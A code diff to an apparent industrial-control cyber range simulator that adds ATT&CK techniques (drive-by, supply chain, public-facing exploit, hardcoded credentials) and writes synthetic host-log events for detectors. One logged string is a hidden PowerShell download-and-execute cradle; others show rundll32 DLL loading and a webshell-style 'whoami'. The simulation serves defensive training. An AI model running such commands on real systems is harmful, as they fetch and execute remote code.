@@ -11,6 +11,15 @@
 //! * Lateral Movement: T0859 Valid Accounts (also Persistence), T0812 Default Credentials,
 //!   T0867 Lateral Tool Transfer.
 //! * Execution: T0863 User Execution (the victim's machine beacons out to the actor).
+//! * T0817 Drive-by Compromise and T0862 Supply Chain Compromise (Initial Access): the
+//!   victim reaches out to a host the actor serves from (a watering-hole page, a vendor's
+//!   update server), fetches, runs what it got, and is taken.
+//! * T0819 Exploit Public-Facing Application: a request to a web service the target offers.
+//! * T0891 Hardcoded Credentials (Lateral Movement, Persistence): a login with a vendor's
+//!   built-in account, which the plant file marks as a default the host accepts.
+//!
+//! A successful step also writes what the target's own logs would keep (a logon, a dropped
+//! file, the process a lure or exploit started) to the host log, for host detectors.
 //!
 //! One executor serves them all, since they differ only in the service, the login and
 //! whether a foothold is gained; it is here with its primary tactic, Initial Access.
@@ -45,7 +54,9 @@ struct Access {
     reply_bytes: u32,
     login: Login,
     gains: bool,
-    /// T0863: the victim's machine beacons out to the actor, so the frame leaves the target.
+    /// T0863, T0817, T0862: the victim's machine reaches out to the actor (an implant
+    /// calling home, a browser fetching the watering hole, an updater fetching the
+    /// vendor's package), so the frame leaves the target.
     beacon: bool,
     deadline: SimTime,
 }
@@ -85,6 +96,10 @@ pub fn build(
         "T0865" => (Service::Https, Login::None, false, false), // Spearphishing Attachment
         "T0863" => (Service::Https, Login::None, true, true), // User Execution
         "T0867" => (Service::Smb, Login::Any, false, false), // Lateral Tool Transfer
+        "T0891" => (Service::Rdp, Login::Default, true, false), // Hardcoded Credentials
+        "T0819" => (Service::Https, Login::None, true, false), // Exploit Public-Facing Application
+        "T0817" => (Service::Https, Login::None, true, true), // Drive-by Compromise
+        "T0862" => (Service::Https, Login::None, true, true), // Supply Chain Compromise
         other => {
             return Err(ConfigError::unlocated(
                 "technique",
@@ -150,6 +165,84 @@ impl Access {
     }
 }
 
+impl Access {
+    /// What the target's own logs keep of a successful step: the logon, the file dropped,
+    /// the process the exploit or the lure started.
+    fn record(&self, cx: &mut StepCx, user: Option<&str>) {
+        use otrange_sim::devices::host_log::{HostActivity, LogonMethod};
+        let from = cx.name(cx.source()).to_string();
+        let local = otrange_sim::devices::host_activity::account_of(cx.topo, self.target);
+        let process =
+            |image: &str, command_line: &str, parent: &str, user: &str| HostActivity::ProcessStart {
+                image: image.into(),
+                command_line: command_line.into(),
+                parent_image: parent.into(),
+                user: user.into(),
+            };
+        let activities = match self.technique {
+            "T0822" | "T0859" | "T0812" | "T0886" | "T0891" => vec![HostActivity::Logon {
+                user: user.unwrap_or("-").into(),
+                method: if self.service == Service::Rdp {
+                    LogonMethod::RemoteInteractive
+                } else {
+                    LogonMethod::Network
+                },
+                source: Some(from),
+                success: true,
+            }],
+            "T0865" => vec![process(
+                WINWORD,
+                &format!(r#""{WINWORD}" /n C:\Users\{local}\Downloads\invoice.doc"#),
+                r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
+                &local,
+            )],
+            "T0863" => vec![process(
+                POWERSHELL,
+                "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString($u)",
+                WINWORD,
+                &local,
+            )],
+            "T0817" => vec![process(
+                &format!(r"C:\Users\{local}\Downloads\install_flash_player.exe"),
+                "install_flash_player.exe",
+                r"C:\Program Files\Google\Chrome\Application\chrome.exe",
+                &local,
+            )],
+            "T0862" => vec![
+                HostActivity::FileWrite {
+                    path: r"C:\Program Files\Vendor\bin\vendorsvc.dll".into(),
+                    image: r"C:\Program Files\Vendor\update.exe".into(),
+                },
+                process(
+                    r"C:\Windows\System32\rundll32.exe",
+                    r#"rundll32.exe "C:\Program Files\Vendor\bin\vendorsvc.dll",Init"#,
+                    r"C:\Program Files\Vendor\update.exe",
+                    "SYSTEM",
+                ),
+            ],
+            "T0819" => vec![process(
+                r"C:\Windows\System32\cmd.exe",
+                "cmd.exe /c whoami",
+                r"C:\Windows\System32\inetsrv\w3wp.exe",
+                "IIS APPPOOL\\DefaultAppPool",
+            )],
+            "T0866" | "T0867" => vec![HostActivity::FileWrite {
+                path: r"C:\Windows\Temp\svcupdate.exe".into(),
+                image: "System".into(),
+            }],
+            _ => Vec::new(),
+        };
+        for a in activities {
+            cx.record(self.target, a);
+        }
+    }
+}
+
+/// Word, whose documents carry the lures of T0865 and start the implants of T0863.
+const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
+/// PowerShell, the interpreter lures and operators alike start.
+const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+
 impl Executor for Access {
     fn start(&mut self, cx: &mut StepCx) -> Progress {
         if !self.beacon && !cx.topo.host(self.target).services.contains(&self.service) {
@@ -162,8 +255,13 @@ impl Executor for Access {
             });
         }
         if self.beacon {
-            // The implant on the victim calls home to where the actor sits.
-            let home = cx.actor.footholds()[0];
+            // The implant on the victim calls home to where the actor sits; a browser or an
+            // updater fetches from the host the actor serves its page or package from.
+            let home = if self.technique == "T0863" {
+                cx.actor.footholds()[0]
+            } else {
+                cx.source()
+            };
             cx.net.send(
                 cx.now,
                 self.target,
@@ -200,6 +298,7 @@ impl Executor for Access {
                 });
             }
         }
+        self.record(cx, user.as_deref());
         if self.gains {
             cx.actor.gain(self.target);
         }
